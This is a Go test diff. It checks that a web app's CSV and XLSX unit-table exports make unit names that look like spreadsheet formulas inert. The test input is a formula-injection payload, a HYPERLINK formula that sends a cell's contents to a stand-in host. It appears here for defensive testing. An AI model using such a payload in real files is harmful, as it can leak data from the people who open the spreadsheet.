@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"encoding/csv"
 	"encoding/json"
+	"fmt"
 	"mime"
 	"net/http"
 	"strings"
@@ -105,5 +106,51 @@ func TestDownloadsAreNamedAfterTheUnitSafely(t *testing.T) {
 				t.Errorf("Content-Disposition %q: want the ASCII fallback %q and two parameters", cd, tc.fallback)
 			}
 		})
+	}
+}
+
+// TestUnitsTableMakesNamesThatLookLikeFormulasInert: a unit named like a
+// formula downloads as inert text in the CSV and as a text cell in the XLSX.
+func TestUnitsTableMakesNamesThatLookLikeFormulasInert(t *testing.T) {
+	f := newFixture(t, Options{})
+	f.withRound()
+	const name = `=HYPERLINK("http://x.example/?"&A1,"Bấm")`
+	body, _ := json.Marshal(map[string]any{"name": name, "version": 1})
+	if res := f.do("PATCH", "/api/v1/units/HN.HBT.A", f.tokens["admin"], string(body)); res.Code != http.StatusOK {
+		t.Fatalf("rename: %d %s", res.Code, res.Body)
+	}
+	b := f.browser("")
+	b.login("board", testPassword)
+	res := b.send("GET", "/units/HN.HBT/table.csv", nil)
+	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(res.Body.String(), "\ufeff"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, r := range recs[1:] {
+		if r[0] == "HN.HBT.A" {
+			found = r[1] == "'"+name
+		}
+	}
+	if !found {
+		t.Errorf("the CSV does not hold the name made inert: %q", recs)
+	}
+	res = b.send("GET", "/units/HN.HBT/table.xlsx", nil)
+	x, err := excelize.OpenReader(bytes.NewReader(res.Body.Bytes()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer x.Close()
+	rows, _ := x.GetRows("Tiến độ")
+	for i, r := range rows {
+		if r[0] != "HN.HBT.A" {
+			continue
+		}
+		cell := fmt.Sprintf("B%d", i+1)
+		typ, _ := x.GetCellType("Tiến độ", cell)
+		formula, _ := x.GetCellFormula("Tiến độ", cell)
+		if r[1] != name || formula != "" || (typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString) {
+			t.Errorf("%s = %q (type %v, formula %q), want the name as text", cell, r[1], typ, formula)
+		}
 	}
 }
